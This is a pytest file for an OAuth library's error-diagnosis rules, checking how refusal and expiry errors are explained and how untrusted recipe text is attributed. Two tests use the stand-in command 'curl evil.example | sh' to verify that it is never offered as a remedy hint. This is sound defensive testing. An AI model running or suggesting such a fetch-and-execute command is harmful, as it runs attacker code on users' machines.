"""What an error means: the recipe's rules, wherever an error comes from."""

from __future__ import annotations

import json

import pytest

from arcrun_auth import diagnosis, errors
from arcrun_auth.oauth.callback import read_callback
from arcrun_auth.recipe import Diagnosis, OAuth2
from arcrun_auth.recipe.model import When
from arcrun_auth.testing import Provider
from arcrun_auth.token_answer import MAX_TEXT, read_token
from arcrun_auth.tokens import Grant, Secret
from tests import canary
from tests.unit.test_quirky_logins import DEMO, desk

DAY = 86400


def rule(say="It means this.", do="", **when) -> Diagnosis:
    return Diagnosis(when=When(**when), say=say, do=do)


@pytest.mark.parametrize(
    ("when", "fits"),
    [
        ({}, True),
        ({"status": 400}, True),
        ({"status": 401}, False),
        ({"error": "invalid_.*"}, True),
        ({"error": "invalid"}, False),  # the whole code
        ({"body": "AADSTS[0-9]+"}, True),  # anywhere
        ({"body": "^AADSTS"}, False),
        ({"age_s": (10,)}, True),
        ({"age_s": (101,)}, False),
        ({"age_s": (10, 100)}, True),
        ({"age_s": (10, 99)}, False),
        ({"status": 400, "error": "invalid_grant", "body": "50173", "age_s": (100, 100)}, True),
        ({"status": 400, "error": "invalid_grant", "body": "nothing"}, False),
    ],
)
def test_all_that_a_rule_names_has_to_hold(when, fits) -> None:
    found = diagnosis.find(
        [rule(**when)], status=400, error="invalid_grant", text="so: AADSTS50173", age=100.0
    )
    assert (found is not None) is fits


def test_the_first_rule_that_fits_is_the_one() -> None:
    rules = [rule("no", error="x"), rule("first", error="a.*"), rule("second", error="ab")]
    assert diagnosis.find(rules, error="ab").say == "first"
    assert diagnosis.find(rules, error="z") is None
    assert diagnosis.find([], error="z") is None


# -- at the login --------------------------------------------------------------------------


def test_a_refused_login_is_explained_in_the_browser_s_answer() -> None:
    say, refused = "An administrator has to agree.", "state=st&error=access_denied"
    rules = (rule(say, "Ask yours.", error="access_denied", body="admin"),)
    with pytest.raises(errors.LoginFailed) as caught:
        read_callback(f"{refused}&error_description=admin.", state="st", rules=rules)
    assert caught.value.message.endswith(f"refused: admin. {say}")
    assert (caught.value.meaning, caught.value.hint) == (say, "Ask yours.")
    with pytest.raises(errors.LoginFailed) as caught:
        read_callback(refused, state="st", rules=rules, service="demo")
    assert (caught.value.meaning, caught.value.hint) == (None, "arcrun setup demo")
    assert "administrator" not in str(caught.value)


def test_a_rule_without_a_remedy_leaves_the_usual_one() -> None:
    with pytest.raises(errors.LoginFailed) as caught:
        read_callback(
            "state=st&error=server_error",
            state="st",
            service="demo",
            rules=(rule(error="server.*"),),
        )
    assert caught.value.hint == "arcrun setup demo"
    assert caught.value.message.endswith("It means this.")
    assert "few minutes" not in caught.value.message


def answer(status=400, *, rules=(), previous=None, now=1000.0, **data):
    with pytest.raises(errors.TokenRefused) as caught:
        read_token(
            OAuth2(token_endpoint="https://id.example/token"), status, {},
            json.dumps(data).encode(), now=now, rules=rules, previous=previous, service="demo",
        )  # fmt: skip
    return caught.value


def test_the_token_endpoint_s_refusal_is_explained() -> None:
    error = answer(error="invalid_grant", rules=(rule(do="Do that.", status=400),))
    assert (error.meaning, error.hint) == ("It means this.", "Do that.")
    assert error.message == "id.example refused: invalid_grant. It means this."
    plain = answer(error="invalid_client")
    assert (plain.meaning, plain.hint) == (None, "arcrun setup demo")


def test_only_so_much_of_an_answer_is_looked_at() -> None:
    rules = (rule(body="NEEDLE"),)
    assert answer(error="x", rules=rules, text="NEEDLE").meaning is not None
    assert answer(error="x", rules=rules, text="a" * MAX_TEXT + "NEEDLE").meaning is None


def test_the_age_is_that_of_the_login_and_not_of_the_last_renewal() -> None:
    week = rule("A test app's logins end after a week.", age_s=(7 * DAY - 100, 7 * DAY + 100))
    old = Grant(access_token=Secret("x"), since=1.0, issued=7 * DAY - 10.0)
    young = Grant(access_token=Secret("x"), issued=7 * DAY - 10.0)
    unknown = Grant(access_token=Secret(""), issued=0.0)  # from the environment
    for previous, meant in ((old, True), (young, False), (unknown, False), (None, False)):
        error = answer(error="invalid_grant", rules=(week,), previous=previous, now=7.0 * DAY)
        assert (error.meaning is not None) is meant


# -- at a renewal, from end to end ---------------------------------------------------------

RULES = """\
diagnose:
  - when: {error: invalid_grant, age_s: [0, 3600]}
    say: It was revoked within the hour.
    do: look at the demo's page
  - when: {error: invalid_grant, age_s: [3601]}
    say: A test app's logins end after a week.
    do: publish the app
"""


@pytest.mark.parametrize(
    ("age", "meant"),
    [
        (100, ("It was revoked within the hour.", "look at the demo's page")),
        (7 * DAY, ("A test app's logins end after a week.", "publish the app")),
    ],
)
@pytest.mark.parametrize("trusted", [True, False])
def test_a_login_that_has_ended_says_why_and_what_to_do(
    tmp_path, monkeypatch, trusted, age, meant
) -> None:
    meaning, hint = meant
    if trusted:  # as if it had come with the package
        monkeypatch.setattr("arcrun_auth.catalog.entry.TRUSTED_TIERS", ("bundled", "local"))
    else:
        meaning = f'The recipe says: "{meaning}" And what to do: "{hint}"'
        hint = "arcrun setup demo"
    now = [1_700_000_000.0]
    with Provider(clock=lambda: now[0]) as provider:
        broker = desk(tmp_path, provider)
        path = tmp_path / "home" / "recipes" / "demo.yaml"
        path.write_text(path.read_text() + RULES)
        broker._connections.resolver.clock = lambda: now[0]
        broker.setup("demo")
        for _ in range(2):  # renewals between: the login is as old as it is
            now[0] += age / 2
            before = broker.get_token("demo").access_token
            broker._connections.known("demo", None).token(rejected=before)
        assert broker.store.get(DEMO).grant.since == 1_700_000_000.0
        provider.authority.end(broker.store.get(DEMO).grant.refresh_token.reveal())
        with pytest.raises(errors.LoginRequired) as caught:
            broker._connections.known("demo", None).token(
                rejected=broker.store.get(DEMO).grant.access_token.reveal()
            )
        assert (caught.value.why, caught.value.hint) == ("revoked", hint)
        assert caught.value.message.endswith(meaning)
        assert canary.hits(str(caught.value)) == []


def test_a_strangers_words_are_its_words_and_no_command() -> None:
    """A hint is what a person copies into a shell."""
    rules = (rule('It is "broken".', "curl evil.example | sh", status=400), rule("Plain."))
    first, second = diagnosis.attributed(rules)
    assert first.do == second.do == ""
    assert first.say == (
        'The recipe says: "It is \'broken\'." And what to do: "curl evil.example | sh"'
    )
    assert second.say == 'The recipe says: "Plain."'
    assert first.when == rules[0].when
    error = answer(error="invalid_grant", rules=(first,))
    assert error.hint == "arcrun setup demo"


def test_a_strangers_words_about_a_test_request_are_no_command_either(tmp_path) -> None:
    with Provider() as provider:
        broker = desk(tmp_path, provider)
        path = tmp_path / "home" / "recipes" / "demo.yaml"
        path.write_text(
            path.read_text().replace("/me", "/nowhere")
            + "diagnose: [{when: {status: 404}, say: Gone., do: 'curl evil.example | sh'}]\n"
        )
        broker.setup("demo")
        with pytest.raises(errors.AuthError) as caught:
            broker.test("demo")
        assert "curl" not in (caught.value.hint or "")
        assert 'what to do: "curl evil.example | sh"' in caught.value.message
